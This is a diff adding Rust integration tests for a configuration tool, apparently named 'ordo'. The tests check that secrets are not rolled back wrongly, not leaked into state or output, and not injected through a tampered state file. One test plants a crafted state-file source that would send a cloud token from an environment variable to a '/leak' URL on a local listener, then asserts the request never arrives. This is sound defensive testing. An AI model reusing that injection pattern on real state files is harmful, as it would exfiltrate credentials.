@@ -1124,3 +1124,162 @@ fn ctrl_c_during_apply_on_a_host_rolls_back_on_that_host() {
         ]
     );
 }
+
+/// A project writing `spec.data` to `out/cfg.txt` with a secret `pw` (and a plain `port`)
+/// in it, and a second manifest after it that fails when `badpath` is unwritable.
+fn secret_project() -> Test {
+    Test::new()
+        .manifest(
+            "values.yaml",
+            "kind: Values\nversion: v1\nmetadata: {name: settings}\nspec:\n  values:\n  - {valueName: pw, defaultValue: hunter2secret, secret: true}\n  - {valueName: port, defaultValue: 5432}\n  - {valueName: badpath, defaultValue: out/ok.txt}\n",
+        )
+        .manifest(
+            "m.yaml",
+            "kind: WriteFile\nversion: v1\nmetadata: {name: cfg}\nspec: {targetFile: out/cfg.txt, data: !Sub \"url=postgres://app:${pw}@db:${port}/app\"}\n---\nkind: WriteFile\nversion: v1\nmetadata: {name: bad, dependencies: {apply: [cfg]}}\nspec: {targetFile: !Value badpath, data: \"x\"}\n",
+        )
+}
+
+#[test]
+fn a_reapply_whose_secret_resolves_differently_is_not_rolled_back_and_the_state_stays_honest() {
+    let t = secret_project();
+    t.run(&["apply"]).code(0);
+    assert_eq!(
+        t.read("out/cfg.txt"),
+        "url=postgres://app:hunter2secret@db:5432/app"
+    );
+    // A `!Sub` mixing the secret with a value that changed (A-F16), and a rotated secret
+    // (NU-F8): re-applying "the previous spec" would re-apply this run's values.
+    for set in ["port=6543", "pw=rotated-secret-2"] {
+        let plan = t.run(&[
+            "plan",
+            "--rollback-on-failure",
+            "--set",
+            set,
+            "--set",
+            "badpath=/proc/nope/x",
+        ]);
+        plan.stdout_has("spec.data` (from `!Sub")
+            .stdout_has("held secret text that now resolves differently from when revision");
+        let out = t.run(&[
+            "apply",
+            "--rollback-on-failure",
+            "--set",
+            set,
+            "--set",
+            "badpath=/proc/nope/x",
+            "-o",
+            "json",
+        ]);
+        out.code(1);
+        let json = out.json();
+        let cfg = json["manifests"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|m| m["name"] == "cfg")
+            .unwrap_or_else(|| panic!("{json}"));
+        assert_eq!(cfg["status"], "not_rolled_back", "{json}");
+        let reason = cfg["reason"].as_str().unwrap_or_default().to_string()
+            + cfg["rollback"].as_str().unwrap_or_default();
+        assert!(
+            json.to_string()
+                .contains("impossible (`spec.data` (from `!Sub"),
+            "{json}"
+        );
+        assert!(!json.to_string().contains("rotated-secret-2"), "{reason}");
+        // The state records what is there (this run's spec), not the old hash: the files
+        // with this run's values show no change, and `verify`-like planning is clean.
+        t.run(&["plan", "--set", set, "--only", "cfg", "-o", "json"])
+            .code(0)
+            .stdout_has("\"unchanged\"");
+        // Back to the first values for the next case.
+        t.run(&["apply"]).code(0);
+    }
+    assert!(!t.read(".ordo/state.json").contains("hunter2secret"));
+}
+
+#[test]
+fn ordo_rollback_refuses_a_revision_whose_secret_now_resolves_differently() {
+    let t = secret_project();
+    t.run(&["apply"]).code(0);
+    t.run(&["apply", "--set", "pw=rotated-secret-2"]).code(0);
+    assert_eq!(
+        t.read("out/cfg.txt"),
+        "url=postgres://app:rotated-secret-2@db:5432/app"
+    );
+    let out = t.run(&["rollback", "cfg", "--set", "pw=rotated-secret-2"]);
+    out.code(3)
+        .stderr_has("cannot re-apply `cfg` (revision 1): `spec.data` (from `!Sub \"url=postgres://app:${pw}@db:${port}/app\"`) held secret text that now resolves differently from when revision 1 was applied")
+        .stderr_has("`-f FILE`, `--set NAME=VALUE`")
+        .stderr_lacks("rotated-secret-2");
+    assert_eq!(
+        t.read("out/cfg.txt"),
+        "url=postgres://app:rotated-secret-2@db:5432/app"
+    );
+    // With the old secret given back, revision 1 is applied again.
+    t.run(&["rollback", "cfg"]).code(0).stdout_has("changed");
+    assert_eq!(
+        t.read("out/cfg.txt"),
+        "url=postgres://app:hunter2secret@db:5432/app"
+    );
+}
+
+#[test]
+fn a_state_file_cannot_inject_a_source_into_a_reapplied_spec() {
+    use std::io::{BufRead, Write};
+    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let addr = listener.local_addr().unwrap();
+    let log = std::sync::Arc::clone(&seen);
+    std::thread::spawn(move || {
+        for stream in listener.incoming().flatten() {
+            let mut reader = std::io::BufReader::new(stream.try_clone().unwrap());
+            let mut line = String::new();
+            let _ = reader.read_line(&mut line);
+            log.lock().unwrap().push(line);
+            let mut stream = stream;
+            let _ = stream
+                .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
+        }
+    });
+    let probe = |path: &str| {
+        format!(
+            "kind: WebsiteUpTest\nversion: v1\nmetadata: {{name: probe}}\nspec: {{url: \"http://{addr}/{path}\", acceptableResponseCodes: [200, 404]}}\n"
+        )
+    };
+    let t = Test::new()
+        .manifest("m.yaml", &probe("v1"))
+        .env("MY_CLOUD_TOKEN", "tok-EXFIL-456");
+    t.run(&["apply"]).code(0);
+    std::fs::write(t.path().join("m.yaml"), probe("v2")).unwrap();
+    t.run(&["apply"]).code(0);
+    let tag = format!("!Sub [\"http://{addr}/leak?k=${{a}}\", {{a: !Env \"MY_CLOUD_TOKEN\"}}]");
+    // A source on a path never masked; then the same with the path listed as masked too.
+    for masked in [false, true] {
+        let mut s: Value = serde_json::from_str(&t.read(".ordo/state.json")).unwrap();
+        let h = s["environments"]["default"]["probe"]["history"]
+            .as_array_mut()
+            .and_then(|h| h.last_mut())
+            .unwrap();
+        h["sources"] = serde_json::json!([{"path": "spec.url", "tag": tag}]);
+        if masked {
+            h["masked"] = serde_json::json!(["spec.url"]);
+        }
+        std::fs::write(t.path().join(".ordo/state.json"), s.to_string()).unwrap();
+        let out = t.run(&["rollback", "probe"]);
+        out.code(3).stderr_has("cannot re-apply `probe` (revision");
+        if masked {
+            out.stderr_has("held secret text that now resolves differently");
+        } else {
+            out.stderr_has("state.json records a source for it, but no masked value");
+        }
+    }
+    std::thread::sleep(Duration::from_millis(200));
+    let seen = seen.lock().unwrap();
+    assert!(
+        seen.iter()
+            .all(|l| !l.contains("EXFIL") && !l.contains("leak")),
+        "{seen:?}"
+    );
+    assert!(seen.iter().any(|l| l.contains("/v2")), "{seen:?}");
+}
